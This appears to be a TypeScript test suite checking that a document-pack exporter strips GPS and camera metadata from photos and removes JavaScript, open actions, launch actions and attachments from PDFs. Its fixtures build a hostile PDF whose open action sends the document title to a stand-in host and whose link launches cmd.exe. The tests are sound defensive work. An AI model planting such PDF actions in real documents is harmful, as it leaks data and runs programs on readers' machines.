// What leaves with the pack (issue 15, item 5): a phone photo's EXIF (GPS position, camera),
// XMP and comments, and a PDF's JavaScript, open action, launch action and embedded file
// are removed, read back from the written zip by readers that are not the ones that wrote
// it (7-Zip, exifr, pdf.js); the removal is recorded in the manifest.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import exifr from 'exifr';
import piexif from 'piexifjs';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildPack, normaliseFile, PackFileError, type BuiltPack } from '../../src/core/pack';
import { stripJpegMetadata } from '../../src/core/image/jpeg-metadata';
import { nodeImageCodec } from '../../src/pack-host/image-codec.node.ts';
import { nodeHasher } from '../../src/pack-host/hasher.node.ts';
import { loadReportFont } from '../../src/pack-host/report-font.node.ts';
import { loadPdfjsNode, nodeReadOptions } from '../../src/ocr/pdfjs.node.ts';
import { zipEntry, zipNames } from '../support/read-back';
import { bankPdf, readyDossier, RULE_PACK, scanJpeg } from './fixtures';

const limits = RULE_PACK.files;
const XMP = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/>exif:GPSLatitude 30,15.0N</x:xmpmeta>';

/** A phone-style JPEG: EXIF with camera model, GPS position and orientation, then XMP and a comment. */
function withPhoneMetadata(jpeg: Uint8Array, orientation = 1): Uint8Array {
  const exif = piexif.dump({
    '0th': {
      [piexif.ImageIFD.Make]: 'Huawei',
      [piexif.ImageIFD.Model]: 'P60 Pro',
      [piexif.ImageIFD.Orientation]: orientation,
    },
    GPS: {
      [piexif.GPSIFD.GPSLatitudeRef]: 'N',
      [piexif.GPSIFD.GPSLatitude]: [
        [30, 1],
        [15, 1],
        [0, 1],
      ],
      [piexif.GPSIFD.GPSLongitudeRef]: 'E',
      [piexif.GPSIFD.GPSLongitude]: [
        [120, 1],
        [9, 1],
        [0, 1],
      ],
    },
  });
  const withExif = Buffer.from(piexif.insert(exif, Buffer.from(jpeg).toString('binary')), 'binary');
  const segment = (marker: number, payload: Buffer) => {
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(payload.length + 2, 2);
    return Buffer.concat([head, payload]);
  };
  const xmp = segment(0xe1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0${XMP}`, 'latin1'));
  const comment = segment(0xfe, Buffer.from('shot at 30.25N 120.15E', 'latin1'));
  return new Uint8Array(
    Buffer.concat([withExif.subarray(0, 2), xmp, comment, withExif.subarray(2)]),
  );
}

/** The bank form PDF with a JavaScript open action, a document-level script, a launch link and an attachment. */
async function hostileBankPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.load(await bankPdf());
  const ctx = doc.context;
  const js = ctx.register(
    ctx.obj({
      Type: 'Action',
      S: 'JavaScript',
      JS: PDFString.of('app.launchURL("http://x.invalid/"+this.info.Title)'),
    }),
  );
  doc.catalog.set(PDFName.of('OpenAction'), js);
  const docScript = ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("hi")') });
  doc.catalog.set(
    PDFName.of('Names'),
    ctx.obj({ JavaScript: ctx.obj({ Names: [PDFString.of('init'), ctx.register(docScript)] }) }),
  );
  const launch = ctx.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 595, 842],
    A: { S: 'Launch', F: PDFString.of('cmd.exe') },
  });
  doc.getPage(0).node.set(PDFName.of('Annots'), ctx.obj([ctx.register(launch)]));
  await doc.attach(new TextEncoder().encode('secret payroll'), 'payroll.txt', {
    mimeType: 'text/plain',
  });
  return doc.save();
}

async function pdfjsActive(bytes: Uint8Array) {
  const pdfjs = await loadPdfjsNode();
  const { documentParams } = nodeReadOptions();
  const pdf = await pdfjs.getDocument({ ...documentParams, data: bytes.slice() }).promise;
  try {
    const annotations = await (await pdf.getPage(1)).getAnnotations();
    return {
      openAction: (await pdf.getOpenAction()) as unknown,
      jsActions: await pdf.getJSActions(),
      attachments: (await pdf.getAttachments()) as Record<string, unknown> | null,
      // What a viewer would do on a click: run an action, open a URL or a file.
      clicks: annotations.flatMap((a: Record<string, unknown>) =>
        ['action', 'actions', 'url', 'unsafeUrl', 'file', 'attachment'].filter(
          (k) => a[k] !== undefined,
        ),
      ),
      text: (await (await pdf.getPage(1)).getTextContent()).items.length,
    };
  } finally {
    await pdf.destroy();
  }
}

const latin1 = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');

describe('a pack built from a GPS-tagged photo and a PDF with scripts', () => {
  let pack: BuiltPack;
  let zipPath: string;
  let sourcePdf: Uint8Array;
  let sourcePhoto: Uint8Array;

  beforeAll(async () => {
    const input = await readyDossier();
    const front = input.documents.find((d) => d.extracted.kind === 'id-card-front')!;
    sourcePhoto = withPhoneMetadata(front.bytes);
    sourcePdf = await hostileBankPdf();
    const documents = input.documents.map((d) =>
      d === front
        ? { ...d, bytes: sourcePhoto }
        : d.mime === 'application/pdf'
          ? { ...d, bytes: sourcePdf }
          : d,
    );
    pack = await buildPack(
      { ...input, documents },
      { codec: nodeImageCodec, hasher: nodeHasher, font: await loadReportFont() },
    );
    zipPath = join(mkdtempSync(join(tmpdir(), 'clean-exports-')), 'pack.zip');
    writeFileSync(zipPath, pack.zip);
  }, 120_000);

  it('the source files really hold what must not leave', async () => {
    const gps = (await exifr.gps(Buffer.from(sourcePhoto))) as { latitude?: number } | undefined;
    expect(gps?.latitude).toBeCloseTo(30.25, 2);
    const active = await pdfjsActive(sourcePdf);
    expect(active.openAction ?? active.jsActions).toBeTruthy();
    expect(Object.keys(active.attachments ?? {})).toEqual(['payroll.txt']);
  });

  it('carries no EXIF, GPS, XMP or comment in the photo, as exifr reads the pack entry', async () => {
    const name = zipNames(zipPath).find((n) => n.startsWith('02-'))!;
    const photo = zipEntry(zipPath, name);
    expect(
      await exifr.parse(photo, {
        tiff: true,
        xmp: true,
        gps: true,
        iptc: true,
        icc: false,
        jfif: false,
      }),
    ).toBeUndefined();
    expect(latin1(photo)).not.toMatch(/Exif\0|ns\.adobe\.com|Huawei|30\.25N/);
    const entry = pack.manifest.files.find((f) => f.name === name)!;
    expect(entry.conversions).toEqual([
      { step: 'metadata', detail: 'removed XMP, comment, EXIF (GPS position)' },
    ]);
    // Lossless: the image data is the source's, byte for byte.
    const scan = (b: Uint8Array) => latin1(b).slice(latin1(b).indexOf('\xff\xda'));
    expect(scan(photo)).toBe(scan(sourcePhoto));
  });

  it('carries no JavaScript, open action, launch link or attachment in the PDF, as pdf.js reads it', async () => {
    const name = zipNames(zipPath).find((n) => n.endsWith('.pdf') && n.startsWith('04-'))!;
    const pdf = new Uint8Array(zipEntry(zipPath, name));
    const active = await pdfjsActive(pdf);
    expect(active.openAction).toBeNull();
    expect(active.jsActions).toBeNull();
    expect(active.attachments).toBeNull();
    expect(active.clicks).toEqual([]);
    expect(active.text).toBeGreaterThan(0);
    expect(latin1(pdf)).not.toContain('secret payroll');
    const entry = pack.manifest.files.find((f) => f.name === name)!;
    expect(entry.conversions).toEqual([
      {
        step: 'pdf-clean',
        detail: 'removed open action (1), JavaScript (2), launch action (1), embedded file (1)',
      },
    ]);
    expect(pack.changes.join('\n')).toContain('removed open action (1), JavaScript (2)');
  });
});

describe('cleaning one file', () => {
  it('turns a photo with EXIF orientation 6 upright and drops the tag', async () => {
    const stored = await scanJpeg({ width: 1200, height: 800, title: '身份证', lines: ['x'] });
    const photo = withPhoneMetadata(stored, 6);
    const out = await normaliseFile(
      { sourceName: 'id.jpg', bytes: photo, mime: 'image/jpeg', limits },
      { codec: nodeImageCodec },
    );
    const image = await nodeImageCodec.decode(out.bytes, 'image/jpeg');
    expect([image.width, image.height]).toEqual([800, 1200]);
    image.close();
    expect(await exifr.orientation(Buffer.from(out.bytes))).toBeUndefined();
    expect(await exifr.gps(Buffer.from(out.bytes))).toBeUndefined();
    expect(out.conversions.map((c) => c.step)).toEqual(['recompress', 'orientation', 'metadata']);
  });

  it('strips data appended after the end of the image', () => {
    const jpeg = new Uint8Array([0xff, 0xd8, 0xff, 0xda, 0, 2, 1, 2, 0xff, 0xd9, 9, 9, 9]);
    expect(stripJpegMetadata(jpeg)).toEqual({
      bytes: new Uint8Array([0xff, 0xd8, 0xff, 0xda, 0, 2, 1, 2, 0xff, 0xd9]),
      removed: ['data after the end of the image'],
    });
  });

  it('refuses an encrypted PDF holding a script, naming the file', async () => {
    const doc = await PDFDocument.load(await hostileBankPdf());
    // Marked encrypted: its script cannot be removed without the password.
    doc.context.trailerInfo.Encrypt = doc.context.obj({ Filter: 'Standard', V: 1, R: 2 });
    const bytes = await doc.save({ useObjectStreams: false });
    const attempt = normaliseFile(
      { sourceName: '开户许可证.pdf', bytes, mime: 'application/pdf', limits },
      { codec: nodeImageCodec },
    );
    await expect(attempt).rejects.toThrow(PackFileError);
    await expect(attempt).rejects.toThrow(
      /^开户许可证\.pdf is an encrypted PDF holding open action, JavaScript, .*: remove its password/,
    );
  });

  it('rewrites a PDF whose bytes hold a script nothing refers to', async () => {
    const doc = await PDFDocument.load(await bankPdf());
    doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('evil()') }));
    const bytes = await doc.save({ useObjectStreams: false });
    const out = await normaliseFile(
      { sourceName: 'bank.pdf', bytes, mime: 'application/pdf', limits },
      { codec: nodeImageCodec },
    );
    expect(latin1(out.bytes)).not.toContain('evil()');
    expect(out.conversions[0]?.step).toBe('pdf-clean');
  });

  it('leaves a clean PDF byte for byte as it was', async () => {
    const bytes = await bankPdf();
    const out = await normaliseFile(
      { sourceName: 'bank.pdf', bytes, mime: 'application/pdf', limits },
      { codec: nodeImageCodec },
    );
    expect(out.bytes).toBe(bytes);
    expect(out.conversions).toEqual([]);
  });
});
